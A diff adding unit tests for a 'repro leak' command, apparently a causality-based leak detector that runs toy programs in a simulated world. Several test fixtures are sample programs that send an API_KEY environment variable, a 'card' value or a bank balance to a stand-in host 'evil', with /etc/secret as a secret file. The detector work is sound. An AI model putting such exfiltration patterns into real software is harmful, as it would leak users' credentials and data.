@@ -1,5 +1,7 @@
 """Unit tests for the command-line interface."""
 
+import io
+
 import pytest
 
 from repro.cli import main
@@ -247,3 +249,208 @@ def test_serve_chaos_smoke(capsys):
     assert code == 0
     assert "  invalid:         1" in out
     assert "all service invariants hold" in out
+
+
+# -- `repro leak` as a serve request -------------------------------------------
+
+STDIN_TO_FILE = """
+fn main() {
+  var line = read_line(0);
+  var fd = open("/out/log", "w");
+  write(fd, line);
+  close(fd);
+  print("done");
+}
+"""
+
+ENV_LEAK = """
+fn main() {
+  var key = getenv("API_KEY");
+  var s = socket();
+  connect(s, "evil", 80);
+  send(s, key);
+}
+"""
+
+LABEL_LEAK = """
+fn main() {
+  var card = source_read("card");
+  var s = socket();
+  connect(s, "evil", 80);
+  send(s, card);
+}
+"""
+
+RELAY = """
+fn main() {
+  var a = socket();
+  connect(a, "bank", 443);
+  send(a, "balance?");
+  var balance = recv(a, 8);
+  var s = socket();
+  connect(s, "evil", 80);
+  send(s, balance);
+}
+"""
+
+LEAK_PROGRAMS = {
+    "leaky": LEAKY,
+    "stdin_to_file": STDIN_TO_FILE,
+    "env_leak": ENV_LEAK,
+    "label_leak": LABEL_LEAK,
+    "relay": RELAY,
+}
+
+LEAKY_FLAGS = ["--secret-file", "/etc/secret", "--file", "/etc/secret=7",
+               "--endpoint", "evil:80="]
+
+# stdout and exit code of `repro leak` before it ran through
+# parse_request/run_request; the refactor must reproduce them byte for
+# byte.
+LEAK_GOLDEN = {
+    "file-endpoint": (
+        ["leaky"] + LEAKY_FLAGS,
+        1,
+        "CAUSALITY: 1/1 sinks differ, 0 syscall diffs, 0 tainted resources\n"
+        "  sink-args-differ: send at main master=(4, 1) slave=(4, 2)\n",
+    ),
+    "faulted": (
+        ["leaky"] + LEAKY_FLAGS + ["--fault-rate", "0.4", "--fault-seed", "2"],
+        1,
+        "CAUSALITY: 1/1 sinks differ, 0 syscall diffs, 0 tainted resources\n"
+        "confidence=full: 2 faults injected (2 masked, 3 retries, 0 short "
+        "reads, 0 lock delays), 0 exhausted, 0 watchdog fires, 0 threads "
+        "abandoned, 0 engine failures\n"
+        "  sink-args-differ: send at main master=(4, 1) slave=(4, 2)\n",
+    ),
+    "stdin-file-sink": (
+        ["stdin_to_file", "--secret-stdin", "--stdin", "hunter2\\n",
+         "--file", "/out/keep=", "--sinks", "file"],
+        1,
+        "CAUSALITY: 1/2 sinks differ, 0 syscall diffs, 0 tainted resources\n"
+        "  sink-args-differ: write at main master=(3, 'hunter2\\\\n') "
+        "slave=(3, 'iunter2\\\\n')\n",
+    ),
+    "env": (
+        ["env_leak", "--secret-env", "API_KEY", "--endpoint", "evil:80="],
+        0,
+        "no causality: 0/1 sinks differ, 0 syscall diffs, 0 tainted resources\n",
+    ),
+    "label": (
+        ["label_leak", "--secret-label", "card", "--endpoint", "evil:80="],
+        0,
+        "no causality: 0/1 sinks differ, 0 syscall diffs, 0 tainted resources\n",
+    ),
+    "endpoint": (
+        ["relay", "--secret-endpoint", "bank:443", "--endpoint",
+         "bank:443=1000", "--endpoint", "evil:80="],
+        1,
+        "CAUSALITY: 1/2 sinks differ, 0 syscall diffs, 0 tainted resources\n"
+        "  sink-args-differ: send at main master=(4, '1000') slave=(4, '2000')\n",
+    ),
+}
+
+
+@pytest.fixture
+def leak_programs(tmp_path):
+    paths = {}
+    for name, source in LEAK_PROGRAMS.items():
+        path = tmp_path / f"{name}.mc"
+        path.write_text(source)
+        paths[name] = str(path)
+    return paths
+
+
+@pytest.mark.parametrize("case", sorted(LEAK_GOLDEN))
+def test_leak_output_is_pinned(case, leak_programs, capsys):
+    argv, code, stdout = LEAK_GOLDEN[case]
+    assert main(["leak", leak_programs[argv[0]]] + argv[1:]) == code
+    assert capsys.readouterr().out == stdout
+
+
+def test_leak_flags_map_onto_the_request(leak_programs, monkeypatch, capsys):
+    import repro.serve.service as service
+
+    seen = []
+    original = service.run_request
+
+    def spy(request, factories=None):
+        seen.append(request)
+        return original(request, factories)
+
+    monkeypatch.setattr(service, "run_request", spy)
+    main(["leak", leak_programs["leaky"], "--secret-file", "/etc/secret",
+          "--secret-stdin", "--secret-endpoint", "bank:443",
+          "--secret-env", "API_KEY", "--secret-label", "card",
+          "--sinks", "file", "--seed", "5", "--stdin", "in",
+          "--file", "/etc/secret=7", "--endpoint", "evil:80=ok",
+          "--watchdog-deadline", "900", "--fault-rate", "0.25",
+          "--fault-seed", "-3"])
+    (request,) = seen
+    sources = request.config.sources
+    assert (sources.file_paths, sources.stdin, sources.network,
+            sources.env_names, sources.labels) == (
+        {"/etc/secret"}, True, {"bank:443"}, {"API_KEY"}, {"card"})
+    assert request.sinks_spec == "file"
+    assert request.world_spec == {
+        "stdin": "in", "files": {"/etc/secret": "7"},
+        "endpoints": {"evil:80": "ok"}, "seed": 5,
+    }
+    assert (request.deadline, request.fault_rate, request.fault_seed) == (
+        900.0, 0.25, -3)
+
+
+def test_leak_matches_the_served_source_request(leak_programs, capsys):
+    from repro.serve import LdxService, ServeConfig
+
+    code = main(["leak", leak_programs["leaky"]] + LEAKY_FLAGS)
+    lines = capsys.readouterr().out.splitlines()
+    service = LdxService(ServeConfig(log_stream=io.StringIO())).start()
+    try:
+        response = service.submit({
+            "id": "same-as-leak",
+            "source": LEAKY,
+            "world": {"files": {"/etc/secret": "7"},
+                      "endpoints": {"evil:80": ""}},
+            "sources": {"files": ["/etc/secret"]},
+            "sinks": "network",
+        })
+    finally:
+        assert service.drain(timeout=120)
+    verdict = response["verdict"]
+    assert response["status"] == "ok"
+    assert lines[0] == verdict["summary"]
+    assert code == (1 if verdict["causality"] else 0)
+    assert lines[1:] == [
+        f"  {d['kind']}: {d['syscall']} at {d['where']} "
+        f"master={tuple(d['master_args'])} slave={tuple(d['slave_args'])}"
+        for d in verdict["detections"]
+    ]
+
+
+@pytest.mark.parametrize("address", ["hostonly", "host:notaport"])
+@pytest.mark.parametrize("command", ["run", "leak"])
+def test_endpoint_diagnosis_is_the_serve_diagnosis(
+    command, address, clean_program
+):
+    from repro.serve import api
+
+    with pytest.raises(api.RequestError) as served:
+        api.parse_request({"id": "r", "source": CLEAN,
+                           "world": {"endpoints": {address: "reply"}}})
+    argv = [command, clean_program, "--endpoint", f"{address}=reply"]
+    if command == "leak":
+        argv.append("--secret-stdin")
+    with pytest.raises(SystemExit) as excinfo:
+        main(argv)
+    assert str(excinfo.value) == str(served.value)
+
+
+def test_leak_of_a_program_that_does_not_compile(tmp_path, capsys):
+    path = tmp_path / "broken.mc"
+    path.write_text("fn main() { var x = ; }")
+    code = main(["leak", str(path), "--secret-stdin"])
+    assert code == 2
+    err = capsys.readouterr().err
+    assert err.startswith("repro: ParseError: ")
+    assert "does not compile" not in err
